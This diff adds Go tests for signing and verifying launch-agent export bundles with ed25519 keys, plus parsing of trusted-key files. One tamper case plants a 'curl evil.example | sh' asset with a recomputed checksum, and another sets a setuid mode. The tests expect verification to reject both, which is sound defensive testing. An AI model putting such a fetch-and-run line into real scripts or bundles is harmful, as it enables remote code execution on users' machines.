@@ -0,0 +1,153 @@
+package plist
+
+import (
+	"bytes"
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestBundleSignature(t *testing.T) {
+	dir := t.TempDir()
+	keyPath := filepath.Join(dir, "signing.key")
+	pub, err := GenerateSigningKey(keyPath, "ops team")
+	if err != nil {
+		t.Fatalf("GenerateSigningKey() error = %v", err)
+	}
+	if info, err := os.Stat(keyPath); err != nil || info.Mode().Perm() != 0600 {
+		t.Errorf("private key mode = %v, %v; want 0600", info, err)
+	}
+	if _, err := GenerateSigningKey(keyPath, ""); err == nil {
+		t.Error("expected GenerateSigningKey() to refuse to overwrite a key")
+	}
+	key, err := ReadSigningKey(keyPath)
+	if err != nil {
+		t.Fatalf("ReadSigningKey() error = %v", err)
+	}
+	trusted, err := ReadTrustedKeys(keyPath + ".pub")
+	if err != nil {
+		t.Fatalf("ReadTrustedKeys() error = %v", err)
+	}
+	if len(trusted) != 1 || !bytes.Equal(trusted[0].Key, pub) || trusted[0].Name() != "ops team" {
+		t.Fatalf("ReadTrustedKeys() = %+v", trusted)
+	}
+
+	pl := &LaunchAgentPlist{
+		Label:                 "com.example.signed",
+		ProgramArguments:      []string{"/usr/local/bin/backup", "--all"},
+		StartCalendarInterval: []interface{}{map[string]interface{}{"Hour": 9, "Minute": 30}},
+	}
+	bundle := NewExportBundle(pl, "", "user", "agent")
+	if bundle.Services[0].PlistData, err = DocumentFromPlist(pl).Encode(); err != nil {
+		t.Fatal(err)
+	}
+	script := filepath.Join(dir, "backup")
+	if err := os.WriteFile(script, []byte("#!/bin/sh\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := bundle.AddAsset("/usr/local/bin/backup", script); err != nil {
+		t.Fatal(err)
+	}
+	if err := bundle.Sign(key); err != nil {
+		t.Fatalf("Sign() error = %v", err)
+	}
+
+	// The signature survives writing and reading the bundle.
+	var buf bytes.Buffer
+	if err := WriteBundle(&buf, bundle); err != nil {
+		t.Fatalf("WriteBundle() error = %v", err)
+	}
+	signed := buf.String()
+	read := func(s string) *ExportBundle {
+		t.Helper()
+		b, err := ReadBundle(strings.NewReader(s))
+		if err != nil {
+			t.Fatalf("ReadBundle() error = %v", err)
+		}
+		return b
+	}
+	if signer, err := read(signed).VerifySignature(trusted); err != nil || signer.Name() != "ops team" {
+		t.Errorf("VerifySignature() = %v, %v; want ops team", signer, err)
+	}
+
+	// Any change to what import writes breaks the signature, even with
+	// the bundle's checksums made to match.
+	otherTeam, _, _ := ed25519.GenerateKey(nil)
+	bothTeams := append([]TrustedKey{{Key: otherTeam, Comment: "other team"}}, trusted...)
+	tests := []struct {
+		name    string
+		tamper  func(b *ExportBundle)
+		wantErr string
+	}{
+		{"plist", func(b *ExportBundle) { b.Services[0].Plist.ProgramArguments[1] = "--none" }, "modified"},
+		{"plist_data", func(b *ExportBundle) {
+			b.Services[0].PlistData = bytes.Replace(b.Services[0].PlistData, []byte("--all"), []byte("--none"), 1)
+		}, "modified"},
+		{"asset data", func(b *ExportBundle) {
+			a := &b.Assets[0]
+			a.Data = []byte("#!/bin/sh\ncurl evil.example | sh\n")
+			sum := sha256.Sum256(a.Data)
+			a.SHA256 = hex.EncodeToString(sum[:])
+		}, "modified"},
+		{"asset path", func(b *ExportBundle) { b.Assets[0].Path = "/usr/local/bin/other" }, "modified"},
+		{"asset mode", func(b *ExportBundle) { b.Assets[0].Mode = "4755" }, "modified"},
+		// Claiming another trusted signer does not make the signature its.
+		{"public key", func(b *ExportBundle) { b.Signature.PublicKey = otherTeam }, "modified"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			b := read(signed)
+			tt.tamper(b)
+			if _, err := b.VerifySignature(bothTeams); err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("VerifySignature() error = %v, want %q", err, tt.wantErr)
+			}
+		})
+	}
+
+	other, _, _ := ed25519.GenerateKey(nil)
+	if _, err := read(signed).VerifySignature([]TrustedKey{{Key: other}}); err == nil || !strings.Contains(err.Error(), "untrusted") {
+		t.Errorf("VerifySignature() with another key error = %v", err)
+	}
+
+	unsigned := NewExportBundle(pl, "", "user", "agent")
+	if _, err := unsigned.VerifySignature(trusted); err == nil || !strings.Contains(err.Error(), "not signed") {
+		t.Errorf("VerifySignature() of an unsigned bundle error = %v", err)
+	}
+}
+
+func TestReadTrustedKeys(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, content string) string {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+
+	keys, err := ReadTrustedKeys(write("ok", `# team keys
+ed25519 11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo= alice@laptop
+
+ed25519 11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=
+`))
+	if err != nil {
+		t.Fatalf("ReadTrustedKeys() error = %v", err)
+	}
+	if len(keys) != 2 || keys[0].Comment != "alice@laptop" || keys[1].Comment != "" {
+		t.Errorf("ReadTrustedKeys() = %+v", keys)
+	}
+
+	for name, content := range map[string]string{
+		"empty":     "# nobody\n",
+		"algorithm": "ssh-ed25519 11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=\n",
+		"short":     "ed25519 AAAA\n",
+	} {
+		if _, err := ReadTrustedKeys(write(name, content)); err == nil {
+			t.Errorf("%s: expected an error", name)
+		}
+	}
+}